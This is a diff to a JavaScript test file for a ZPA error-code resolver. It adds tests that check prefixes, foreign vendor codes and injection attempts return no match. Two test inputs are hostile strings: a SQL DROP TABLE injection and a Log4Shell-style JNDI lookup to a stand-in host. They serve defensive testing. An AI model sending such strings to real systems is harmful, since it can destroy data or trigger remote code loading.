@@ -130,6 +130,17 @@ describe("resolver answers", () => {
     expect(named).toEqual(expect.arrayContaining(["ZPN_ERR_SCIM_INACTIVE", "BRK_MT_SETUP_FAIL_SCIM_INACTIVE"]));
   });
 
+  it("refuses a bare family prefix even when the family's name also sits inside another code", () => {
+    // FOHH_ begins 40-odd codes and also sits inside AST_MT_SETUP_ERR_INIT_FOHH_MCONN.
+    for (const prefix of ["FOHH_", "fohh", "BRK_MT_"]) expect(search.resolve(prefix).match, prefix).toBeNull();
+  });
+
+  it("refuses injection tries and other vendors' errors, whatever ZPA words they borrow", () => {
+    for (const query of ["'; DROP TABLE users; --", "${jndi:ldap://x.example/a} connector", "AADSTS700016 application not found", "ORA-28000 user account disabled"]) {
+      expect(search.resolve(query).match, query).toBeNull();
+    }
+  });
+
   it("suggests something for a made-up code without claiming it exists", () => {
     const { match, alternatives } = search.resolve("CONNECTOR_UNHEALTHY");
     expect(match).toBeNull();
